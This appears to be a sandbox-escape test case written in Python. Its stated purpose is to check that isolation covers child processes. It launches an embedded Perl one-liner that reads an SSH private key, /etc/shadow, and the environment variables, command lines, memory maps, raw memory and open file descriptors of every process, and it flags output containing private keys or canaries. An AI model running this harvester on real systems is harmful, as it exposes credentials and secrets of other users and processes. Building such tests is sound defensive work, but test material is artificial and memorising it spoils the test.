#: title = "Perl reads keys, environments and memory of every process"
#: why = "Walls must stand around every program that a command starts, not around Python."
#: kind = "steps"
#: answer = "either"
#: ends = ["any"]
#: boasts = true
import subprocess


def tell(*command):
    """What a command prints, whatever becomes of it."""
    try:
        done = subprocess.run(command, capture_output=True, timeout=20)
    except (OSError, subprocess.SubprocessError):
        return ""
    text = (done.stdout + done.stderr).decode("utf-8", "replace")
    if "CANARY" in text or "PRIVATE KEY" in text:
        boast(text)
    return text


tell("perl", "-MFcntl", "-e", r"""
my @found = ("@HOME@/.ssh/id_ed25519");
push @found, map { my $p = $_; map { "$p/$_" } qw(environ cmdline maps mem auxv root/etc/shadow cwd/.ssh/id_ed25519) } glob("/proc/[0-9]*");
push @found, glob("/proc/[0-9]*/fd/*"), glob("/proc/[0-9]*/task/*/environ");
for (@found) { next if m{/fd/[0-3]$}; sysopen(my $f, $_, O_RDONLY | O_NONBLOCK) or next; sysread($f, my $text, 65536); print $text }
""")


def add(a, b):
    return a + b
